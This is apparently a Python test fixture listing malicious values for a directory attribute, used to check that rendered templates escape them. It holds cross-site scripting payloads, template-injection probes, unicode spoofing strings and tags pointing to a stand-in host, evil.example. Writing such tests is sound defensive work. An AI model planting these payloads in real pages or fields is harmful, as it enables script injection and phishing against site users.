"""Malicious directory values: what an attacker with write access to one Entra attribute could try.

Each entry is (name, value). The renderer tests place every value in every placeholder of the shipped
templates; the browser tests reuse the list to check that nothing runs in a real page.
"""

MALICIOUS_VALUES = [
    # script tags
    ("script_plain", "<script>alert(1)</script>"),
    ("script_mixed_case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script_split", "<scr" + "ipt>alert(1)</scr" + "ipt>"),
    ("script_nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script_src", '<script src="https://evil.example/x.js"></script>'),
    # event handlers
    ("attr_handler_breakout", '" onmouseover="alert(1)'),
    ("img_onerror", "<img src=x onerror=alert(1)>"),
    ("body_onload", "<body onload=alert(1)>"),
    ("svg_onload", "<svg onload=alert(1)>"),
    ("svg_script", "<svg><script>alert(1)</script></svg>"),
    ("details_ontoggle", "<details open ontoggle=alert(1)>"),
    # javascript: links
    ("javascript_url", "javascript:alert(1)"),
    ("javascript_entity_encoded", "&#106;avascript:alert(1)"),
    ("javascript_tab_newline", "java\tscr\nipt:alert(1)"),
    ("javascript_link", '<a href="javascript:alert(1)">click</a>'),
    ("vbscript_url", "vbscript:msgbox(1)"),
    ("data_url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    # CSS
    ("css_expression", '<div style="width:expression(alert(1))">x</div>'),
    ("css_url_javascript", "red;background:url(javascript:alert(1))"),
    ("css_moz_binding", 'x" style="-moz-binding:url(https://evil.example/x.xml#x)'),
    # broken markup
    ("table_breakout", "</td></tr></table><script>alert(1)</script>"),
    ("unclosed_comment", "<!-- "),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("unclosed_tag", "<img src=x onerror=alert(1) "),
    # template syntax (must stay text, never evaluated)
    ("jinja_expression", "{{7*7}}"),
    ("jinja_debug", "{% debug %}"),
    ("jinja_config", "{{ config }}"),
    ("jinja_mro", "{{ ''.__class__.__mro__ }}"),
    ("jinja_raw_end", "{% endraw %}{{ 7*7 }}"),
    ("dollar_expression", "${7*7}"),
    ("erb_expression", "<%= 7*7 %>"),
    ("ruby_expression", "#{7*7}"),
    # attribute breakouts
    ("double_quote_breakout", '"><script>alert(1)</script>'),
    ("single_quote_breakout", "' onfocus='alert(1)' autofocus='"),
    ("backtick_breakout", "`><img src=x onerror=alert(1)>"),
    # unicode tricks
    ("rtl_override", "Manager\u202egnp.exe"),
    ("zero_width_joiners", "Ad\u200dmin\u200b\u200c\ufeff"),
    ("fullwidth_script", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("homoglyph", "\u0440\u0430ypal.com support"),
    ("nul_byte", "Ada\x00<script>alert(1)</script>"),
    ("very_long", "A" * 5_000),
    # dangerous elements
    ("iframe", '<iframe src="https://evil.example"></iframe>'),
    ("meta_refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    ("base_href", '<base href="https://evil.example/">'),
    ("form_action", '<form action="https://evil.example"><input name=p></form>'),
    ("math", "<math><mtext><script>alert(1)</script></mtext></math>"),
    ("template", "<template><script>alert(1)</script></template>"),
    ("link_stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("object", '<object data="https://evil.example/x.swf"></object>'),
    # entities that must not be decoded into markup
    ("entities", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("numeric_entities", "&#60;script&#62;alert(1)&#60;/script&#62;"),
]
